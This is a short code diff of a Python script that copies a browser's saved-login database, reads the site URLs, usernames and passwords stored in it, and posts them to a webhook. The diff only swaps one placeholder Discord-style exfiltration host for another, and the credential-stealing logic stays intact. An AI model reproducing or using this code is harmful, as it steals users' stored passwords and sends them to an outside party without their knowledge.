@@ -8,4 +8,4 @@ copy = "login.db"
 shutil.copyfile(source, copy)
 rows = sqlite3.connect(copy).execute("SELECT origin_url, username_value, password_value FROM logins").fetchall()
 text = "\n".join([str(row) for row in rows])
-requests.post("https://discord.com/api/webhooks/0/inert", json={"content": text})
+requests.post("https://discord.payload.invalid/api/webhooks/0/inert", json={"content": text})
